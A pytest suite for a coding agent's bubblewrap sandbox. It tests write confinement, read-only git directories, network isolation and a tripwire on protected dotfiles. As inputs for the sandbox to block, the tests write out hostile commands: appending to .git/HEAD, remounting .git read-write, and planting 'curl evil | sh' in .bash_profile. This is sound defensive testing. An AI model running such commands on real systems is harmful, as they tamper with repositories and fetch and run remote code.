from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.fakeopenai import FakeOpenAI
from tests.sandbox_support import READ_ONLY, WRITE, needs_bwrap
from tui.safety import masks, sandbox
from tui.safety.sandbox import (
    SandboxPolicy,
    SandboxUnavailable,
    bwrap_problem,
    clear_bwrap_cache,
    find_bwrap,
    is_sandbox_denial,
    wrap,
)
from tui.tools.process import run_process


@pytest.fixture(autouse=True)
def _fresh_probe() -> Iterator[None]:
    # Tests below swap the bwrap lookup; never let a fake detection leak out.
    clear_bwrap_cache()
    yield
    clear_bwrap_cache()


def _run(script: str, policy: SandboxPolicy, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        wrap(["sh", "-c", script], policy, cwd), capture_output=True, text=True, timeout=60, check=False
    )


@needs_bwrap
def test_workspace_write_allows_writes_in_the_workspace_and_tmp(ws: Path) -> None:
    done = _run("echo hi > made.txt && mkdir sub && echo t > /tmp/.codeloop-sandbox-probe", WRITE, ws)
    assert done.returncode == 0, done.stderr
    assert (ws / "made.txt").read_text() == "hi\n"
    Path("/tmp/.codeloop-sandbox-probe").unlink()


@needs_bwrap
def test_git_dir_stays_read_only_in_workspace_write(ws: Path) -> None:
    done = _run("echo evil >> .git/HEAD", WRITE, ws)
    assert done.returncode != 0
    assert "read-only file system" in done.stderr.lower()
    assert (ws / ".git" / "HEAD").read_text() == "ref: refs/heads/main\n"
    done = _run("touch .git/hooks-pre-commit", WRITE, ws)
    assert done.returncode != 0
    assert not (ws / ".git" / "hooks-pre-commit").exists()


@needs_bwrap
def test_writes_outside_the_writable_roots_are_refused(ws: Path, outside: Path) -> None:
    done = _run(f"echo x > {outside}/escaped.txt", WRITE, ws)
    assert done.returncode != 0
    assert not (outside / "escaped.txt").exists()
    assert is_sandbox_denial(done.returncode, done.stderr)


@needs_bwrap
def test_extra_writable_root_from_config_is_writable(ws: Path, outside: Path) -> None:
    policy = SandboxPolicy("workspace-write", writable_roots=(outside,))
    done = _run(f"echo x > {outside}/allowed.txt", policy, ws)
    assert done.returncode == 0, done.stderr
    assert (outside / "allowed.txt").read_text() == "x\n"


@needs_bwrap
def test_remounting_git_read_write_is_refused_even_as_root(ws: Path) -> None:
    git = ws / ".git"
    done = _run(f"mount -o remount,rw,bind {git}; umount {git}; echo evil >> {git}/HEAD", WRITE, ws)
    assert done.returncode != 0
    assert (git / "HEAD").read_text() == "ref: refs/heads/main\n"


@needs_bwrap
def test_read_only_mode_refuses_writes_to_the_workspace(ws: Path) -> None:
    done = _run("echo x > made.txt", READ_ONLY, ws)
    assert done.returncode != 0
    assert not (ws / "made.txt").exists()
    done = _run("cat .git/HEAD", READ_ONLY, ws)
    assert done.returncode == 0 and done.stdout == "ref: refs/heads/main\n"


@pytest.fixture
def tcp_server() -> Iterator[int]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(4)  # the kernel completes handshakes into the backlog; no accept needed
    yield server.getsockname()[1]
    server.close()


def _connect_script(port: int) -> list[str]:
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('connected')"
    return [sys.executable, "-c", code]


@needs_bwrap
def test_network_is_cut_off_by_default(ws: Path, tcp_server: int) -> None:
    done = subprocess.run(wrap(_connect_script(tcp_server), WRITE, ws), capture_output=True, text=True, timeout=60)
    assert done.returncode != 0
    assert "connected" not in done.stdout


@needs_bwrap
def test_network_access_reaches_the_host(ws: Path, tcp_server: int) -> None:
    policy = SandboxPolicy("workspace-write", network_access=True)
    done = subprocess.run(wrap(_connect_script(tcp_server), policy, ws), capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "connected\n"


@needs_bwrap
def test_command_sees_its_own_pid_namespace(ws: Path) -> None:
    done = _run("ls /proc", WRITE, ws)
    pids = [name for name in done.stdout.split() if name.isdigit()]
    assert 0 < len(pids) < 10, pids


@needs_bwrap
def test_worktree_gitdir_and_common_dir_are_read_only(tmp_path: Path) -> None:
    common = tmp_path / "main" / ".git"
    gitdir = common / "worktrees" / "wt"
    gitdir.mkdir(parents=True)
    (gitdir / "HEAD").write_text("ref: refs/heads/wt\n")
    (gitdir / "commondir").write_text("../..\n")
    (common / "config").write_text("[core]\n")
    worktree = tmp_path / "wt"
    worktree.mkdir()
    (worktree / ".git").write_text("gitdir: ../main/.git/worktrees/wt\n")

    assert WRITE.read_only_subpaths(worktree) == [(worktree / ".git").resolve(), gitdir.resolve(), common.resolve()]
    done = _run(f"echo ok > file; echo evil >> {gitdir}/HEAD; echo evil >> {common}/config", WRITE, worktree)
    assert (worktree / "file").read_text() == "ok\n"
    assert (gitdir / "HEAD").read_text() == "ref: refs/heads/wt\n"
    assert (common / "config").read_text() == "[core]\n"
    assert done.stderr.lower().count("read-only file system") == 2


@needs_bwrap
def test_host_socket_is_hidden_even_under_a_writable_root(
    ws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "host.sock"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(path))
    listener.listen(4)
    try:
        # Whether the socket is there to connect to (the seccomp filter refuses the connect
        # itself; tests/test_sandbox_hardening.py covers that, this is the mask behind it).
        code = f"import os, stat; print(stat.S_ISSOCK(os.stat({str(path)!r}).st_mode))"
        argv = [sys.executable, "-c", code]
        visible = subprocess.run(wrap(argv, WRITE, ws), capture_output=True, text=True, timeout=60)
        assert visible.stdout == "True\n", visible.stderr  # what the mask exists for

        monkeypatch.setattr(masks, "_HIDDEN_SOCKETS", (path,))
        hidden = subprocess.run(wrap(argv, WRITE, ws), capture_output=True, text=True, timeout=60)
        assert hidden.stdout == "False\n", hidden.stderr
    finally:
        listener.close()


def _sleepers_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if marker.encode() in cmdline and b"bwrap" not in cmdline and state != "Z":
            found.append(int(entry.name))
    return found


@needs_bwrap
async def test_timeout_kills_sandboxed_grandchildren(ws: Path) -> None:
    # bwrap --new-session moves the command out of our process group; killing
    # bwrap must still take the whole sandbox down (pid namespace + die-with-parent).
    marker = f"{time.time_ns() % 10_000_000 + 1000}.25"
    argv = wrap(["sh", "-c", f"sleep {marker} & sleep {marker}"], WRITE, ws)
    task = asyncio.create_task(run_process(argv, cwd=ws, timeout_s=5.0))
    deadline = time.monotonic() + 30
    while len(_sleepers_with(marker)) < 2:
        assert time.monotonic() < deadline and not task.done(), "sandboxed sleepers never started"
        await asyncio.sleep(0.05)
    result = await task
    assert result.timed_out
    deadline = time.monotonic() + 10
    while _sleepers_with(marker) and time.monotonic() < deadline:
        await asyncio.sleep(0.05)
    assert _sleepers_with(marker) == []


def test_danger_full_access_returns_argv_unchanged(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)  # no bwrap needed at all
    argv = ["bash", "-lc", "rm -rf build"]
    assert wrap(argv, SandboxPolicy("danger-full-access"), ws) == argv


def test_missing_bwrap_raises_sandbox_unavailable_with_the_fix(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)
    with pytest.raises(SandboxUnavailable) as raised:
        wrap(["ls"], WRITE, ws)
    message = str(raised.value)
    assert "not found" in message
    assert "apt-get install bubblewrap" in message
    assert "--sandbox danger-full-access" in message
    assert bwrap_problem() == message


def test_failing_bwrap_probe_reports_its_stderr(tmp_path: Path, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: fake)
    problem = bwrap_problem()
    assert problem is not None
    assert "No permissions to create new namespace" in problem
    assert "user namespaces" in problem
    with pytest.raises(SandboxUnavailable):
        wrap(["ls"], READ_ONLY, ws)


@needs_bwrap
def test_bwrap_inside_a_writable_root_is_refused(tmp_path: Path, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = find_bwrap()
    planted = tmp_path / "bin" / "bwrap"
    planted.parent.mkdir()
    planted.write_text(f'#!/bin/sh\nexec {real} "$@"\n')  # passes the probe
    planted.chmod(0o755)
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: planted)
    assert bwrap_problem() is None
    with pytest.raises(SandboxUnavailable, match="writable root"):
        wrap(["ls"], WRITE, ws)


def test_find_bwrap_skips_relative_and_missing_path_entries(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    found = tmp_path / "bin"
    found.mkdir()
    (found / "bwrap").write_text("#!/bin/sh\n")
    (found / "bwrap").chmod(0o755)
    nowhere = Path("/nonexistent/bwrap")
    path_env = os.pathsep.join([".", "", str(tmp_path / "missing"), str(empty), str(found)])
    assert find_bwrap(path_env, preferred=nowhere) == found / "bwrap"
    assert find_bwrap(str(empty), preferred=nowhere) is None
    assert find_bwrap(path_env, preferred=found / "bwrap") == found / "bwrap"


def test_system_bwrap_is_preferred_over_path(tmp_path: Path) -> None:
    other = tmp_path / "bwrap"
    other.write_text("#!/bin/sh\n")
    other.chmod(0o755)
    if sandbox.PREFERRED_BWRAP.is_file():
        assert find_bwrap(str(tmp_path)) == sandbox.PREFERRED_BWRAP


def test_effective_writable_roots_per_mode(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    extra = tmp_path / "extra"
    extra.mkdir()
    tmpdir = tmp_path / "tmpdir"
    tmpdir.mkdir()
    monkeypatch.setenv("TMPDIR", str(tmpdir))
    link = tmp_path / "link"
    link.symlink_to(extra)
    policy = SandboxPolicy("workspace-write", writable_roots=(extra, link))
    roots = policy.effective_writable_roots(tmp_path)
    assert roots == [tmp_path.resolve(), extra.resolve(), Path("/tmp").resolve(), tmpdir.resolve()]
    assert SandboxPolicy("read-only").effective_writable_roots(tmp_path) == []
    assert SandboxPolicy("danger-full-access").effective_writable_roots(tmp_path) == [Path("/")]


def test_read_only_subpaths_protect_every_git_under_a_root_and_only_those_present(ws: Path, tmp_path: Path) -> None:
    assert WRITE.read_only_subpaths(ws) == [(ws / ".git").resolve()]
    # A repository nested below a root is protected too (it used to be only `<root>/.git`).
    assert WRITE.read_only_subpaths(tmp_path) == [(ws / ".git").resolve()]
    empty = tmp_path / "empty"
    empty.mkdir()
    assert WRITE.read_only_subpaths(empty) == []


@needs_bwrap
def test_wrapped_argv_mounts_git_read_only_after_the_workspace(ws: Path) -> None:
    argv = wrap(["ls"], WRITE, ws)
    assert argv[-2:] == ["--", "ls"]
    for flag in ("--unshare-pid", "--unshare-ipc", "--unshare-net", "--die-with-parent", "--new-session"):
        assert flag in argv
    assert argv[argv.index("--cap-drop") + 1] == "ALL"
    bind = argv.index(str(ws.resolve()))
    ro_git = argv.index(str((ws / ".git").resolve()))
    assert argv[bind - 1] == "--bind" and argv[ro_git - 1] == "--ro-bind-try" and ro_git > bind
    assert argv[argv.index("--chdir") + 1] == str(ws.resolve())
    assert "--unshare-net" not in wrap(["ls"], SandboxPolicy("read-only", network_access=True), ws)


@pytest.mark.parametrize(
    ("exit_code", "output", "denied"),
    [
        (1, "sh: 1: cannot create /etc/x: Read-only file system", True),
        (1, "touch: cannot touch 'x': Permission denied", True),
        (1, "mount: /ws/.git: permission denied.", True),
        (2, "OSError: [Errno 101] Network is unreachable", True),
        (6, "curl: (6) Could not resolve host: pypi.org", True),
        (1, "unshare: unshare failed: Operation not permitted", True),
        (-31, "", True),
        (0, "Permission denied (but the command recovered)", False),
        (1, "AssertionError: 2 != 3", False),
        (1, "FAILED tests/test_sandbox.py::test_x", False),
        (127, "bash: foo: command not found", False),
    ],
)
def test_sandbox_denial_heuristic(exit_code: int, output: str, denied: bool) -> None:
    assert is_sandbox_denial(exit_code, output) is denied


@needs_bwrap
def test_root_too_big_to_search_for_repositories_is_not_writable(ws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Past the walk's budget the root fails closed: it is left out of the writable roots (with
    the reason), so a repository the walk did not reach cannot be written."""
    from tui.safety import protected

    big = tmp_path / "big"
    for n in range(30):
        (big / f"d{n}").mkdir(parents=True)
    (big / "d29" / "repo" / ".git").mkdir(parents=True)
    monkeypatch.setattr(protected, "WALK_ENTRY_BUDGET", 10)
    protected.forget_git_scans()
    try:
        policy = SandboxPolicy("workspace-write", writable_roots=(big,))
        assert big.resolve() not in policy.effective_writable_roots(ws)
        assert big.resolve() in {root for root, _ in policy.refused_roots(ws)}
        done = _run(f"echo PWN > {big}/d29/repo/.git/config; echo ok > {big}/x", policy, ws)
        assert done.returncode != 0 and not (big / "x").exists() and not (big / "d29" / "repo" / ".git" / "config").exists()
    finally:
        protected.forget_git_scans()


def test_tripwire_leaves_an_in_place_edit_alone_and_moves_a_new_name_aside(tmp_path: Path) -> None:
    """An editor saving ~/.bashrc from outside (write a new file, rename it over) during a command
    is not the command's doing (it cannot replace a read-only mount point): it stays. A protected
    name that did not exist before is moved aside."""
    from tui.safety.protected import Tripwire

    bashrc, profile = tmp_path / ".bashrc", tmp_path / ".bash_profile"
    bashrc.write_text("old\n")
    tripwire = Tripwire([bashrc, profile])
    (tmp_path / "tmp-save").write_text("new\n")
    (tmp_path / "tmp-save").rename(bashrc)
    profile.write_text("curl evil | sh\n")
    notes = tripwire.check()
    assert bashrc.read_text() == "new\n" and not profile.exists()
    assert (tmp_path / ".bash_profile.codeloop-quarantine-1").read_text() == "curl evil | sh\n"
    assert len(notes) == 1 and ".bash_profile is protected and appeared" in notes[0]


def test_bwrap_without_user_namespaces_still_sandboxes_without_one(outside: Path, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where bwrap cannot add a user namespace (Docker's default seccomp profile, some AppArmor
    setups), the trial run without one decides: sandboxes still run, capabilities still dropped,
    only the bounding set's emptying is lost."""
    fake = outside / "bwrap"  # outside the writable roots, or wrap refuses it
    fake.write_text('#!/bin/sh\nfor a in "$@"; do [ "$a" = --unshare-user ] && { echo "bwrap: No permissions to create new namespace" >&2; exit 1; }; done\nexit 0\n')
    fake.chmod(0o755)
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: fake)
    assert bwrap_problem() is None
    argv = wrap(["ls"], WRITE, ws)
    assert "--unshare-user" not in argv and argv[argv.index("--cap-drop") + 1] == "ALL"


def test_a_planted_git_file_cannot_freeze_a_writable_root(ws: Path) -> None:
    """A hostile repository's `sub/.git` file saying `gitdir: /tmp` (to have the sandbox mount
    /tmp read-only) protects only itself: the target is not a folder git would accept."""
    (ws / "sub").mkdir()
    (ws / "sub" / ".git").write_text("gitdir: /tmp\n")
    paths = WRITE.read_only_subpaths(ws)
    assert (ws / "sub" / ".git").resolve() in paths and Path("/tmp").resolve() not in paths


async def test_a_session_folder_too_big_to_search_is_read_only_and_says_why(fake_openai: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail closed past the walk's bound, through the engine: the session's folder (more entries
    than the lowered budget) is not writable, and the failing command's output says why."""
    from tests.engine_support import make_session, outputs_by_call, run_turn, shell_call
    from tests.fakeopenai import events as fe
    from tui.safety import protected

    big = tmp_path / "big"
    for n in range(30):
        (big / f"d{n}").mkdir(parents=True)
    (big / "d29" / ".git").mkdir()
    monkeypatch.setattr(protected, "WALK_ENTRY_BUDGET", 10)
    protected.forget_git_scans()
    fake_openai.queue_response(fe.turn(shell_call("c1", ["sh", "-c", "echo PWN > d29/.git/config; echo x > new.txt"])))
    fake_openai.queue_response(fe.turn(fe.message_item("done")))
    try:
        await run_turn(make_session(fake_openai, big, policy="never", sandbox="workspace-write"), "go")
    finally:
        protected.forget_git_scans()
    out = outputs_by_call(fake_openai.responses_bodies()[1])["c1"]
    assert not (big / "new.txt").exists() and not (big / "d29" / ".git" / "config").exists()
    assert f"{big.resolve()} holds more than 10 entries" in out and "not writable in the sandbox" in out
